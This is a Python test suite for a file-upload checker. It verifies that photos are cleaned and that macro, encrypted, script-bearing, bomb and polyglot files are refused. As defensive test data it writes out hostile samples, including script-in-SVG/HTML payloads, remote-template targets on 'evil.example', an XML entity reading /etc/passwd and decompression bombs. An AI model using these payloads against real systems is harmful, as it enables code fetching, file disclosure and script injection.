"""What may be uploaded, and what is refused with which words."""

import contextlib
import io
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from linli.foundation.files import documents, kinds
from linli.foundation.files.checks import Checked, check
from linli.foundation.files.kinds import Kind, Refused
from linli.foundation.files.tests import samples
from linli.foundation.files.tests.samples import upload

RED, BLUE = (254, 0, 0), (0, 0, 254)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HEADS = st.sampled_from(
    [
        b"",
        b"\xff\xd8\xff\xe0",
        b"\x89PNG\r\n\x1a\n",
        b"RIFF\0\0\0\0WEBP",
        b"%PDF-1.4",
        b"PK\x03\x04",
        bytes.fromhex("D0CF11E0A1B11AE1"),
        b"\0\0\0\x18ftyp",
    ]
)
NAMES = st.sampled_from(["a.jpg", "a.csv", "a.docx"])
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HTML = b"<!doctype html><script>alert(1)</script>"


def body(checked: Checked) -> bytes:
    checked.body.seek(0)
    return checked.body.read()


def is_near(color: object, expected: tuple[int, int, int]) -> bool:
    assert isinstance(color, tuple)
    return all(abs(a - b) < 12 for a, b in zip(color, expected, strict=True))


class TestPhotos:
    @pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
    def test_each_format_becomes_jpeg_with_a_thumbnail(self, kind: str) -> None:
        checked = check(upload(samples.photo(kind=kind), "路灯.png"))
        assert (checked.kind, checked.name, checked.content_type) == (
            Kind.PHOTO,
            "路灯.jpg",
            "image/jpeg",
        )
        picture, thumbnail = samples.opened(body(checked)), samples.opened(checked.thumbnail)
        assert (picture.format, picture.size) == ("JPEG", (800, 600))
        assert (thumbnail.format, thumbnail.size) == ("JPEG", (320, 240))
        assert checked.size == len(body(checked))

    def test_a_large_one_is_made_smaller_and_keeps_its_shape(self) -> None:
        checked = check(upload(samples.phone_photo(), "a.jpg"))
        assert samples.opened(body(checked)).size == (1600, 1200)

    def test_place_time_camera_comment_and_profile_are_gone(self) -> None:
        original = samples.phone_photo()
        assert original.count(b"PhoneMaker") >= 4
        assert samples.opened(original).getexif().get_ifd(0x8825)
        checked = check(upload(original, "a.jpg"))
        for content in (body(checked), checked.thumbnail):
            picture = samples.opened(content)
            assert b"PhoneMaker" not in content
            assert not picture.getexif()
            assert set(picture.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density"}

    @pytest.mark.parametrize(
        ("orientation", "size", "top_left", "bottom_right"),
        [
            (1, (800, 600), RED, BLUE),
            (3, (800, 600), BLUE, RED),
            (6, (600, 800), BLUE, RED),
            (8, (600, 800), RED, BLUE),
        ],
    )
    def test_it_stands_upright(
        self,
        orientation: int,
        size: tuple[int, int],
        top_left: tuple[int, int, int],
        bottom_right: tuple[int, int, int],
    ) -> None:
        photo = samples.phone_photo(800, 600, orientation)
        picture = samples.opened(body(check(upload(photo, "a.jpg"))))
        width, height = picture.size
        assert (width, height) == size
        assert is_near(picture.getpixel((10, 10)), top_left)
        assert is_near(picture.getpixel((width - 10, height - 10)), bottom_right)

    @pytest.mark.filterwarnings("ignore:Corrupt EXIF data")
    def test_damaged_exif_does_not_cost_the_photo(self) -> None:
        photo = samples.photo(exif=b"Exif\0\0II*\0\xff\xff\xff\xff garbage")
        assert check(upload(photo, "a.jpg")).kind == Kind.PHOTO

    def test_transparency_becomes_white(self) -> None:
        image = Image.new("RGBA", (50, 50), (0, 0, 0, 0))
        picture = samples.opened(body(check(upload(samples.photo(image, "PNG"), "a.png"))))
        assert is_near(picture.getpixel((25, 25)), (255, 255, 255))

    def test_16_bit_grey_of_a_scanner_is_not_washed_out(self) -> None:
        image = Image.new("I;16", (50, 50), 0x8000)
        picture = samples.opened(body(check(upload(samples.photo(image, "PNG"), "a.png"))))
        assert is_near(picture.getpixel((25, 25)), (128, 128, 128))

    @pytest.mark.parametrize("mode", ["L", "P", "CMYK", "1"])
    def test_any_colour_mode(self, mode: str) -> None:
        kind = "JPEG" if mode == "CMYK" else "PNG"
        photo = samples.photo(samples.picture(mode=mode), kind)
        assert samples.opened(body(check(upload(photo, "a")))).mode == "RGB"

    @pytest.mark.parametrize("size", [(9000, 8000), (60_000, 60_000), (2**31 - 1, 1000)])
    def test_a_bomb_is_refused_before_it_is_decoded(self, size: tuple[int, int]) -> None:
        with pytest.raises(kinds.TooManyPixels, match="尺寸太大"):
            check(upload(samples.png_header(*size), "a.png"))

    def test_a_jpeg_that_passes_over_itself_for_minutes_is_refused(self) -> None:
        progressive = samples.photo(progressive=True)
        assert check(upload(progressive, "a.jpg")).kind == Kind.PHOTO
        last = progressive[progressive.rindex(b"\xff\xda") : -2]
        bomb = progressive[:-2] + last * 500 + progressive[-2:]
        with pytest.raises(kinds.Damaged, match="打不开"):
            check(upload(bomb, "a.jpg"))

    def test_small_pictures_in_the_notes_of_a_photo_are_no_passes(self) -> None:
        notes = b"\xff\xda\x00\x02" * 100
        assert check(upload(samples.photo(comment=notes), "a.jpg")).kind == Kind.PHOTO

    def test_a_jpeg_that_needs_all_its_pixels_may_have_fewer(self) -> None:
        large = samples.picture(5000, 4100)
        assert check(upload(samples.photo(large), "a.jpg")).kind == Kind.PHOTO
        with pytest.raises(kinds.TooManyPixels, match="尺寸太大"):
            check(upload(samples.photo(large, progressive=True), "a.jpg"))

    @pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
    def test_one_that_broke_off_is_refused(self, kind: str) -> None:
        photo = samples.photo(kind=kind)
        with pytest.raises(kinds.Damaged, match="打不开"):
            check(upload(photo[: len(photo) // 2], "a.jpg"))

    def test_heic_gets_advice(self) -> None:
        with pytest.raises(kinds.HeicPhoto, match="兼容性最佳"):
            check(upload(b"\0\0\0\x18ftypheic" + b"\0" * 100, "IMG_0001.HEIC"))

    def test_what_hangs_behind_a_photo_is_cut_off(self) -> None:
        """A file that is a photo to one program and an archive or a page to another."""
        for tail in (samples.word_file(), HTML, b"%PDF-1.7\n%%EOF"):
            checked = check(upload(samples.photo() + tail, "a.jpg"))
            assert tail not in body(checked)
            assert not zipfile.is_zipfile(io.BytesIO(body(checked)))

    def test_a_script_inside_a_photo_is_gone(self) -> None:
        photo = samples.photo(comment=HTML, exif=samples.Image.Exif())
        assert HTML in photo
        assert HTML not in body(check(upload(photo, "a.jpg")))


class TestDocuments:
    @pytest.mark.parametrize(
        ("content", "name", "kind", "stored_name"),
        [
            (samples.pdf_file(), "答复.pdf", Kind.PDF, "答复.pdf"),
            (samples.word_file(), "答复.docx", Kind.WORD, "答复.docx"),
            (samples.excel_file(), "住户.xlsx", Kind.EXCEL, "住户.xlsx"),
            (samples.ole_file("Workbook"), "住户.xls", Kind.EXCEL, "住户.xls"),
            (samples.ole_file("Book"), "住户.xls", Kind.EXCEL, "住户.xls"),
            ("姓名,楼号\n张伟,3".encode("gb18030"), "住户.csv", Kind.TEXT, "住户.csv"),
            ("\ufeff姓名".encode(), "住户.TXT", Kind.TEXT, "住户.txt"),
            # The content counts, not the name.
            (samples.word_file(), "答复.doc", Kind.WORD, "答复.docx"),
            (samples.excel_file(), "住户.jpg", Kind.EXCEL, "住户.xlsx"),
        ],
    )
    def test_accepted_as_it_is(
        self, content: bytes, name: str, kind: Kind, stored_name: str
    ) -> None:
        checked = check(upload(content, name))
        assert (checked.kind, checked.name) == (kind, stored_name)
        assert (body(checked), checked.size, checked.thumbnail) == (content, len(content), b"")

    def test_the_charset_of_text_is_kept(self) -> None:
        text = "姓名,楼号\n" * 50_000
        for charset in ("utf-8", "gb18030"):
            checked = check(upload(text.encode(charset), "a.csv"))
            assert checked.content_type == f"text/csv; charset={charset}"

    @pytest.mark.parametrize(
        "part",
        [
            "xl/vbaProject.bin",
            "word/vbaData.xml",
            "xl/macrosheets/sheet1.xml",
            "XL/VBAPROJECT.BIN",
            "xl/activeX/activeX1.bin",
        ],
    )
    def test_macros_are_refused_wherever_they_hide(self, part: str) -> None:
        for file in (samples.word_file(), samples.excel_file()):
            with pytest.raises(kinds.HasMacros, match="宏"):
                check(upload(samples.with_part(file, part, b"Sub AutoOpen()"), "a.xlsx"))

    @pytest.mark.parametrize(
        ("kind", "target", "refused"),
        [
            ("attachedTemplate", "https://evil.example/t.dotm", True),
            ("attachedTemplate", "\\\\10.0.0.9\\share\\t.dotm", True),
            ("attachedTemplate", "file://evil.example/t.dotm", True),
            ("attachedTemplate", "//evil.example/t.dotm", True),
            ("attachedTemplate", " HTTP:&#47;/evil.example/t", True),
            ("oleObject", "mhtml:http://evil.example/x", True),
            ("frame", "http://evil.example/", True),
            ("attachedTemplate", "file:///C:\\Users\\wang\\红头.dotx", False),
            ("attachedTemplate", "Normal.dotm", False),
            ("hyperlink", "https://www.example.gov.cn/notice", False),
        ],
    )
    def test_what_brings_a_program_from_elsewhere(
        self, kind: str, target: str, refused: bool
    ) -> None:
        relations = (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{OFFICE}/{kind}" Target="{target}"'
            ' TargetMode="External"/></Relationships>'
        )
        part = "word/_rels/settings.xml.rels"
        for charset in ("utf-8", "utf-16"):
            file = samples.with_part(samples.word_file(), part, relations.encode(charset))
            if refused:
                with pytest.raises(kinds.FetchesProgram, match="从网上取"):
                    check(upload(file, "答复.docx"))
            else:
                assert check(upload(file, "答复.docx")).kind == Kind.WORD

    def test_entities_in_a_document_are_not_followed(self) -> None:
        bomb = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
        file = samples.with_part(samples.word_file(), "word/_rels/x.rels", bomb)
        assert check(upload(file, "答复.docx")).kind == Kind.WORD

    def test_a_macro_workbook_under_a_plain_name(self) -> None:
        content = io.BytesIO()
        with zipfile.ZipFile(content, "w") as archive:
            archive.writestr(
                "[Content_Types].xml",
                "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            )
        with pytest.raises(kinds.HasMacros):
            check(upload(content.getvalue(), "a.xlsx"))

    @pytest.mark.parametrize("folder", ["_VBA_PROJECT", "_VBA_PROJECT_CUR"])
    def test_old_macros(self, folder: str) -> None:
        with pytest.raises(kinds.HasMacros):
            check(upload(samples.ole_file("Workbook", folder), "a.xls"))

    def test_a_text_that_names_macros_is_none(self) -> None:
        content = samples.ole_file("Workbook") + "x _VBA_PROJECT".encode("utf-16-le")
        assert check(upload(content, "a.xls")).kind == Kind.EXCEL

    def test_passwords_are_refused(self) -> None:
        for content in (
            samples.ole_file("EncryptionInfo", "EncryptedPackage"),
            samples.encrypted_archive(),
        ):
            with pytest.raises(kinds.HasPassword, match="密码"):
                check(upload(content, "a.xlsx"))

    def test_old_word_gets_advice(self) -> None:
        with pytest.raises(kinds.OldWord, match="另存为docx"):
            check(upload(samples.ole_file("WordDocument"), "a.doc"))

    def test_a_part_that_unpacks_too_well_is_refused(self) -> None:
        content = samples.with_part(samples.excel_file(), "xl/media/a.bin", b"\0" * 5_000_000)
        with pytest.raises(kinds.UnpacksTooLarge, match="解开后太大"):
            check(upload(content, "a.xlsx"))

    def test_a_part_larger_than_it_says_is_refused(self) -> None:
        content = samples.lying_archive()
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            assert archive.testzip() is None
        with pytest.raises(kinds.Damaged):
            check(upload(content, "a.xlsx"))

    def test_too_many_parts_or_bytes_are_refused(self, monkeypatch: pytest.MonkeyPatch) -> None:
        for limit in ("MOST_PARTS", "MOST_UNPACKED"):
            with monkeypatch.context() as patch:
                patch.setattr(documents, limit, 5)
                with pytest.raises(kinds.UnpacksTooLarge):
                    check(upload(samples.excel_file(), "a.xlsx"))

    def test_an_ordinary_large_workbook_is_accepted(self) -> None:
        assert check(upload(samples.excel_file(rows=20_000), "a.xlsx")).kind == Kind.EXCEL

    @pytest.mark.parametrize(
        "content", [samples.word_file()[:-100], samples.pdf_file()[:-100]], ids=["docx", "pdf"]
    )
    def test_what_broke_off_is_refused(self, content: bytes) -> None:
        with pytest.raises(kinds.Damaged):
            check(upload(content, "a.docx"))

    def test_a_changed_byte_is_noticed(self) -> None:
        content = bytearray(samples.word_file())
        content[200] ^= 0xFF
        with pytest.raises(kinds.Damaged):
            check(upload(bytes(content), "a.docx"))


class TestRefused:
    @pytest.mark.parametrize("name", ["路灯.jpg", "a.svg", "a.html", "a", "a.xml", "a.js"])
    @pytest.mark.parametrize("content", [SVG, HTML, b"\xff\xd8<script>alert(1)</script>"])
    def test_pages_and_drawings_with_scripts(self, name: str, content: bytes) -> None:
        with pytest.raises(kinds.UnknownKind, match="不是可以上传的文件"):
            check(upload(content, name))

    @pytest.mark.parametrize(
        "content",
        [
            b"MZ\x90\0" + b"\0" * 200,
            b"\x7fELF" + b"\0" * 200,
            b"GIF89a" + b"\0" * 200,
            b"Rar!\x1a\x07\0" + b"\0" * 200,
            b"\0" * 200,
            b" " * 20 + samples.word_file(),
        ],
        ids=["exe", "elf", "gif", "rar", "zeros", "padded"],
    )
    @pytest.mark.parametrize("name", ["a.jpg", "a.txt", "a.exe"])
    def test_programs_and_the_unknown(self, name: str, content: bytes) -> None:
        with pytest.raises(kinds.UnknownKind):
            check(upload(content, name))

    def test_other_archives(self) -> None:
        content = io.BytesIO()
        with zipfile.ZipFile(content, "w") as archive:
            archive.writestr("run.exe", "MZ")
        with pytest.raises(kinds.UnknownKind):
            check(upload(content.getvalue(), "a.zip"))

    def test_nothing(self) -> None:
        with pytest.raises(kinds.Empty, match="空文件"):
            check(upload(b"", "路灯.jpg"))

    def test_too_large_says_how_large(self) -> None:
        photo = upload(samples.photo() + b"\0" * (20 * kinds.MEGABYTE), "路灯.jpg")
        with pytest.raises(kinds.TooLarge, match=r"有20\.\d MB，超过了20 MB") as refused:
            check(photo)
        assert "其他内容都还在" in str(refused.value)

    def test_documents_may_be_larger_than_photos(self) -> None:
        text = b"a" * (25 * kinds.MEGABYTE)
        assert check(upload(text, "a.txt")).size == len(text)
        with pytest.raises(kinds.TooLarge, match="超过了30 MB"):
            check(upload(b"a" * (31 * kinds.MEGABYTE), "a.txt"))

    def test_a_form_may_want_certain_kinds_only(self) -> None:
        with pytest.raises(kinds.WrongKind, match="这里不收"):
            check(upload(samples.pdf_file(), "a.pdf"), kinds=kinds.PHOTOS)

    def test_a_name_with_signs_of_formatting_is_shown_as_it_is(self) -> None:
        with pytest.raises(kinds.Empty, match=r"100%\(d\)s%"):
            check(upload(b"", "100%(d)s%.jpg"))

    @given(content=st.binary(max_size=300), head=HEADS, name=NAMES)
    def test_any_bytes_are_taken_or_refused_and_nothing_else_happens(
        self, content: bytes, head: bytes, name: str
    ) -> None:
        with contextlib.suppress(Refused):
            assert check(upload(head + content, name)).size
